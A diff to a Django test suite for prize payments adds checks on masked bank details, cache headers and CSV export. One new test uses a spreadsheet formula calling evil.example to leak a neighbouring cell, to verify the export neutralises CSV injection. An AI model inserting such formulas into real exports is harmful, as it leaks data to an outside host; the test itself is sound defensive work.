@@ -1,6 +1,8 @@
 """Prize payments: bank details encrypted, masked and read only by finance (every read logged),
 the four-eyes path, and the bank file checked against the ISO 20022 schema."""
 
+import csv
+import io
 from datetime import date
 from decimal import Decimal
 
@@ -229,6 +231,20 @@ def test_the_csv_shows_masked_accounts_only(laureate, staff_client):
     assert IBAN not in body
 
 
+def test_a_laureate_name_reaches_the_prize_list_as_text(laureate, staff_client):
+    formula = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
+    laureate.candidate.name = formula
+    laureate.candidate.save(update_fields=["name"])
+    reader = finance("f1@example.org")
+    services.request_payment(laureate, actor=reader)
+
+    response = staff_client.get(reverse("laureates:payments_csv"))
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert rows[1][1] == "'" + formula
+    assert response["Cache-Control"] == "no-store, private"
+
+
 def test_staff_see_masked_details_and_cannot_reveal_them(laureate, staff_client):
     services.save_bank_details(
         laureate, details=details(), proof=PROOF, proof_kind="pdf", actor=None
@@ -243,13 +259,32 @@ def test_staff_see_masked_details_and_cannot_reveal_them(laureate, staff_client)
     assert (reveal.status_code, proof.status_code) == (404, 404)
 
 
-def test_finance_reveals_the_details_on_the_page_and_it_is_logged(laureate, client):
+def finance_reads_a_payment(laureate, client):
+    """Bank details given, a payment requested by finance, who is signed in: (finance, payment)."""
     services.save_bank_details(
         laureate, details=details(), proof=PROOF, proof_kind="pdf", actor=None
     )
     reader = finance("f1@example.org")
     payment = services.request_payment(laureate, actor=reader)
     sign_in(client, reader)
+    return reader, payment
+
+
+def test_the_bank_proof_and_the_payment_page_are_never_stored(laureate, client):
+    _reader, payment = finance_reads_a_payment(laureate, client)
+
+    proof = client.get(reverse("laureates:proof", args=[payment.pk]))
+    page = client.get(reverse("laureates:payment", args=[payment.pk]))
+
+    assert proof.content == PROOF
+    assert page.status_code == 200
+    for response in (proof, page):
+        assert "no-store" in response["Cache-Control"]
+        assert "private" in response["Cache-Control"]
+
+
+def test_finance_reveals_the_details_on_the_page_and_it_is_logged(laureate, client):
+    reader, payment = finance_reads_a_payment(laureate, client)
 
     page = client.post(reverse("laureates:reveal", args=[payment.pk])).content.decode()
 
